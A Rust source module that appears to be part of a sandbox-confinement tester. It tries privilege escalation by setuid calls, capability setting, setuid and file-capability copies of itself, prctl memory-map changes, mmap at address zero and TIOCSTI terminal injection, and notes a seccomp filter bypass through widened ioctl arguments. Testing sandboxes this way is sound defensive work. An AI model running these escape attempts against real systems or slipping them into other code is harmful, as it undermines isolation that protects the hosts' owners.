//! Ways to more rights than one has.

use std::{fs, os::unix::fs::PermissionsExt, process::Command};

use crate::{
    Attack, say,
    sys::{self, address, call_with},
};

pub(crate) const ATTACKS: &[(&str, Attack)] = &[
    ("privileges", privileges),
    ("capabilities", capabilities),
    ("setuid-file", setuid_file),
    ("file-capabilities", file_capabilities),
    ("whoami", whoami),
    ("memory-map", memory_map),
    ("terminal", terminal),
];

/// Becomes somebody else, by every call there is.
fn privileges(_: &[String]) {
    for (name, result) in [
        ("setuid(0)", call_with(libc::SYS_setuid, &[0])),
        ("setgid(0)", call_with(libc::SYS_setgid, &[0])),
        ("setresuid(0)", call_with(libc::SYS_setresuid, &[0, 0, 0])),
        ("setresgid(0)", call_with(libc::SYS_setresgid, &[0, 0, 0])),
        ("setreuid(0)", call_with(libc::SYS_setreuid, &[0, 0])),
        ("setuid(1)", call_with(libc::SYS_setuid, &[1])),
        ("setgroups(0)", call_with(libc::SYS_setgroups, &[1, address(&[0_u32])])),
    ] {
        judge(name, result);
    }
}

fn judge<T>(name: &str, result: Result<T, sys::Errno>) {
    match result {
        Ok(_) => say::open(format_args!("{name} succeeds")),
        Err(error) => say::held(format_args!("{name}: {error}")),
    }
}

/// Gives itself capabilities, in every set.
fn capabilities(_: &[String]) {
    const VERSION: u32 = 0x2008_0522;
    let header = [VERSION, 0];
    let all = [u32::MAX; 6];
    judge("capset(all)", call_with(libc::SYS_capset, &[address(&header), address(&all)]));
    for capability in 0..41 {
        let one = [1_u32 << (capability % 32), 1 << (capability % 32), 1 << (capability % 32), 0, 0, 0];
        if capability < 32 && call_with(libc::SYS_capset, &[address(&header), address(&one)]).is_ok() {
            say::open(format_args!("capset({capability}) succeeds"));
        }
        if call_with(libc::SYS_prctl, &[47, 2, capability, 0, 0]).is_ok() {
            say::open(format_args!("ambient capability {capability} is raised"));
        }
        if call_with(libc::SYS_prctl, &[23, capability]) == Ok(1) {
            say::open(format_args!("capability {capability} is in the bounding set"));
        }
    }
    judge("prctl(SET_SECUREBITS, 0)", call_with(libc::SYS_prctl, &[28, 0]));
    if call_with(libc::SYS_prctl, &[39, 0, 0, 0, 0]) != Ok(1) {
        say::open("new privileges are not forbidden");
    }
    judge("prctl(SET_NO_NEW_PRIVS, 0)", call_with(libc::SYS_prctl, &[38, 0, 0, 0, 0]));
}

/// Makes a copy of itself that is to run as its owner and group, and asks it who it is.
fn setuid_file(_: &[String]) {
    let before = identity();
    for folder in ["/workspace", "/tmp", "/dev/shm"] {
        let path = format!("{folder}/setuid");
        let made = fs::copy("/proc/self/exe", &path)
            .and_then(|_| fs::set_permissions(&path, fs::Permissions::from_mode(0o6755)));
        match made.and_then(|()| Command::new(&path).arg("whoami").output()) {
            Ok(output) => compare(&path, &before, &output.stdout),
            Err(error) => say::held(format_args!("{path}: {error}")),
        }
        let _ = fs::remove_file(path);
    }
}

/// Gives a copy of itself capabilities, by the attribute that the kernel looks at.
fn file_capabilities(_: &[String]) {
    // Version 3, effective; permitted and inheritable all; root of name space 0.
    let attribute: [u32; 6] = [0x0300_0001, u32::MAX, 0, u32::MAX, 0, 0];
    for version in [&attribute[..5], &attribute[..]] {
        let path = "/workspace/capable";
        let _ =
            fs::copy("/proc/self/exe", path).and_then(|_| fs::set_permissions(path, fs::Permissions::from_mode(0o755)));
        let name = c"security.capability".as_ptr() as i64;
        let file = c"/workspace/capable".as_ptr() as i64;
        let n_bytes = i64::try_from(size_of_val(version)).unwrap_or(0);
        let set = call_with(libc::SYS_setxattr, &[file, name, address(version), n_bytes, 0]);
        if let Err(error) = set {
            say::held(format_args!("setxattr: {error}"));
            continue;
        }
        match Command::new(path).arg("whoami").output() {
            Ok(output) => compare(path, &identity(), &output.stdout),
            Err(error) => say::held(format_args!("{path}: {error}")),
        }
    }
}

fn compare(path: &str, before: &str, found: &[u8]) {
    let found = String::from_utf8_lossy(found);
    if found.contains(before) {
        say::held(format_args!("{path} runs as before"));
    } else {
        say::open(format_args!("{path} runs as {found}, not as {before}"));
    }
}

/// Who this process is, as its kernel tells it.
fn identity() -> String {
    let status = fs::read_to_string("/proc/self/status").unwrap_or_default();
    let wanted = ["Uid:", "Gid:", "CapPrm:", "CapEff:", "CapBnd:", "NoNewPrivs:"];
    let lines = status.lines().filter(|line| wanted.iter().any(|it| line.starts_with(it)));
    lines.map(|it| it.split_whitespace().collect::<Vec<_>>().join(" ")).collect::<Vec<_>>().join("; ")
}

fn whoami(_: &[String]) {
    say::note("identity", identity());
}

/// Moves what a process is said to run and to hold.
fn memory_map(_: &[String]) {
    let file = fs::File::open("/bin/sh").ok();
    let descriptor = file.as_ref().map_or(-1, |it| i64::from(std::os::fd::AsRawFd::as_raw_fd(it)));
    judge("prctl(SET_MM, EXE_FILE)", call_with(libc::SYS_prctl, &[35, 13, descriptor, 0, 0]));
    judge("prctl(SET_MM, BRK)", call_with(libc::SYS_prctl, &[35, 7, 0x1000, 0, 0]));
    judge(
        "mmap at address 0",
        call_with(libc::SYS_mmap, &[0, 4096, 3, 0x32, -1]).and_then(|it| {
            // Without the flag for it the kernel moves it up.
            if it == 0 { Ok(()) } else { Err(sys::Errno(libc::EACCES)) }
        }),
    );
}

/// Types into a terminal as if a person did.
fn terminal(_: &[String]) {
    let Ok(master) = fs::File::options().read(true).write(true).open("/dev/ptmx") else {
        return say::held("no terminal can be made");
    };
    let descriptor = std::os::fd::AsRawFd::as_raw_fd(&master).into();
    let unlock = 0_i32;
    let _ = call_with(libc::SYS_ioctl, &[descriptor, 0x4004_5431, address(&unlock)]);
    let tried = sys::fork(|| {
        let _ = call_with(libc::SYS_setsid, &[]);
        let Ok(own) = call_with(libc::SYS_ioctl, &[descriptor, 0x5441, 2]) else {
            return say::held("the other end cannot be opened");
        };
        let _ = call_with(libc::SYS_ioctl, &[own, 0x540e, 0]);
        let letter = b'x';
        judge("ioctl(TIOCSTI)", call_with(libc::SYS_ioctl, &[own, 0x5412, address(&letter)]));
        // The kernel takes only half of the argument: a filter that compares all of it can be got round.
        judge("ioctl(TIOCSTI, widened)", call_with(libc::SYS_ioctl, &[own, 0x5412 | 1 << 40, address(&letter)]));
        let paste = 3_u8;
        judge("ioctl(TIOCLINUX)", call_with(libc::SYS_ioctl, &[own, 0x541c, address(&paste)]));
        judge("ioctl(TIOCCONS)", call_with(libc::SYS_ioctl, &[own, 0x541d, 0]));
    });
    let _ = tried.map(sys::wait);
}
